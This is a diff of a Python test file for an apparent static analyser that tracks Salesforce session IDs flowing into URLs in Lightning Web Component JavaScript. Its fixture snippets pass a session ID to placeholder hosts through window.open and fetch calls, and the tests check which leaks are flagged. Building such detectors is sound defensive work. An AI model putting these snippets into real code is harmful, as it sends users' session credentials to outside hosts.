@@ -595,7 +595,8 @@ def test_each_stand_in_keeps_its_own_place_in_the_request() -> None:
                "  fetch(base + '/x', { headers: { Authorization: 'Bearer ' + sid } }); }\n",
                "lwc/sender/sender.js")
     placed = {u.sources: (u.in_query, u.header_or_body) for u in ir.url_uses}
-    assert placed == {("client:text:apex:ctrl.getbase",): (True, False), ("client:text:apex:ctrl.getsid",): (False, True)}
+    assert placed == {("client:text:apex:ctrl.getbase",): (True, False),
+                      ("client:text:apex:ctrl.getsid",): (False, True)}
 
 
 def test_the_string_of_an_object_holds_none_of_its_properties_sessions() -> None:
@@ -611,9 +612,13 @@ def test_the_string_of_an_object_holds_none_of_its_properties_sessions() -> None
                "window.open('https://f.example/?c=' + {sid: sid, toString() { return this.sid; }});\n"
                "var o = {org: 'x'}; o.token = sid;\n"
                "window.open('https://g.example/?c=' + o);\n"
-               "window.open('https://h.example/?c=' + (o || sid));\n")
+               "window.open('https://h.example/?c=' + (o || sid));\n"
+               "var p = JSON.parse('{\"sid\": \"' + sid + '\"}'), q = JSON.parse(sid);\n"
+               "window.open('https://i.example/?c=' + p);\n"
+               "window.open('https://j.example/?c=' + q);\n")
     assert [u.url.split("?")[0] for u in ir.url_uses] == [
-        "https://c.example/", "https://d.example/", "https://e.example/", "https://f.example/", "https://h.example/"]
+        "https://c.example/", "https://d.example/", "https://e.example/", "https://f.example/", "https://h.example/",
+        "https://j.example/"]
 
 
 def test_the_string_of_a_value_apex_hands_over_whole_is_its_own_stand_in() -> None:
